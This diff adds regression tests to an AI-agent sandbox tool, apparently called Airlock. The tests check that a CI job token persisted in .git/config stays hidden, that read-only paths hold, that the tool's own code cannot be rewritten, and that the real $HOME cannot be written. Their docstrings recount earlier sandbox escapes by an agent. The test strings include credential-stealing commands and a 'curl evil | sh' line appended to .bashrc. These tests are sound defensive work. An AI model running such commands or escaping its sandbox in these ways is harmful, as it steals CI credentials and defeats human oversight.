@@ -9,6 +9,7 @@ sandbox. ``.git/config`` and ``.git/info/attributes`` are the agent's to write: 
 
 from __future__ import annotations
 
+import base64
 import json
 import os
 import secrets
@@ -182,3 +183,93 @@ def test_the_agent_cannot_rewrite_the_policy_of_the_next_session(
     assert second.returncode == 0, second.stderr
     assert b"token=" in second.stdout
     assert token.encode() not in second.stdout, "the next session ran under the agent's policy"
+
+
+def _persist_credentials(repo: Path, token: str) -> tuple[str, str]:
+    """What actions/checkout (persist-credentials, the default) and GitLab Runner leave in the
+    checkout: the job's token as an HTTP header, and in the remote's URL."""
+    header = "AUTHORIZATION: basic " + base64.b64encode(f"x-access-token:{token}".encode()).decode()
+    url = f"https://gitlab-ci-token:{token}@git.example/acme/api.git"
+    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(repo.parent)}
+    for args in (
+        ["config", "--local", "http.https://git.example/.extraheader", header],
+        ["remote", "add", "origin", url],
+    ):
+        subprocess.run(["git", *args], cwd=repo, env=env, check=True)
+    return header, url
+
+
+def test_the_job_token_the_checkout_persisted_is_not_the_agents(tmp_path: Path) -> None:
+    """The sandbox hides the runner's token files, but actions/checkout writes the job's
+    GITHUB_TOKEN into the checkout's own ``.git/config`` (and GitLab Runner its CI_JOB_TOKEN
+    into the remote URL): the agent read it there, and could use it through any allowed host.
+    It is taken out while the agent runs and put back for the job's later steps."""
+    repo = _checkout(tmp_path)
+    token = "ghs_" + secrets.token_hex(18)
+    header, url = _persist_credentials(repo, token)
+    steal = "cat .git/config > stolen.txt; git config --get-all remote.origin.url >> stolen.txt; "
+    steal += "git config user.email agent@example.com && echo configured"
+
+    result = _airlock_run(tmp_path, repo, steal)
+
+    assert result.returncode == 0, result.stderr
+    assert b"configured" in result.stdout  # git config still works inside
+    stolen = (repo / "stolen.txt").read_text()
+    assert "git.example" in stolen  # the agent read the config...
+    assert token not in stolen and header.split()[-1] not in stolen  # ...without the token
+    after = (repo / ".git" / "config").read_text()
+    assert header in after and url in after, "the later steps of the job lost their credentials"
+    assert "agent@example.com" in after  # what the agent changed stays
+
+
+def test_a_read_only_path_inside_the_workspace_stays_read_only(tmp_path: Path) -> None:
+    """``sandbox.filesystem.read_only`` was bound before the workspace, which covered it: a
+    path listed there inside the workspace (workflows, vendored code) was writable."""
+    repo = tmp_path / "ws"
+    (repo / "vendor").mkdir(parents=True)
+    (repo / "vendor" / "lib.txt").write_text("original\n")
+    policy = repo / "airlock.yaml"
+    policy.write_text(f"sandbox:\n  filesystem:\n    read_only: [{repo / 'vendor'}]\n")
+
+    result = _airlock_run(tmp_path, repo, "echo agent > vendor/lib.txt; echo tried", policy=policy)
+
+    assert b"tried" in result.stdout, result.stderr
+    assert (repo / "vendor" / "lib.txt").read_text() == "original\n"
+
+
+def test_airlock_installed_inside_the_workspace_is_read_only(tmp_path: Path) -> None:
+    """A project's own venv holding Airlock (``pip install`` into ``.venv``, then ``airlock
+    run`` in the project): the agent rewrote Airlock's code, which ran outside the sandbox in
+    the next session."""
+    repo = tmp_path / "ws"
+    site = repo / ".venv" / "site"
+    shutil.copytree(
+        Path(__file__).resolve().parents[2] / "core" / "airlock",
+        site / "airlock",
+        ignore=shutil.ignore_patterns("__pycache__"),
+    )
+    code = site / "airlock" / "__init__.py"
+    before = code.read_bytes()
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "CI_", "GITLAB"))}
+    env.update(XDG_CONFIG_HOME=str(tmp_path / "cfg"), PYTHONPATH=str(site))
+    result = subprocess.run(
+        [sys.executable, "-m", "airlock._cli", "run", "--pty", "never", "--sandbox", "required",
+         "--", "sh", "-c", "echo 'raise SystemExit(0)' >> .venv/site/airlock/__init__.py; echo tried"],
+        cwd=repo, env=env, capture_output=True, timeout=120, check=False,
+    )  # fmt: skip
+    assert b"tried" in result.stdout, result.stderr
+    assert code.read_bytes() == before, "the agent rewrote Airlock's own code"
+
+
+def test_a_workspace_that_holds_home_is_refused(tmp_path: Path) -> None:
+    """The workspace is bound read-write over the fresh $HOME: run from $HOME (or above), the
+    agent read and wrote the real one (~/.bashrc runs later, outside)."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("# the user's\n")
+    result = _airlock_run(
+        tmp_path, home, "echo 'curl evil | sh' >> .bashrc", extra_env={"HOME": str(home)}
+    )
+    assert result.returncode == 80, result.stderr
+    assert b"holds $HOME" in result.stderr
+    assert (home / ".bashrc").read_text() == "# the user's\n"
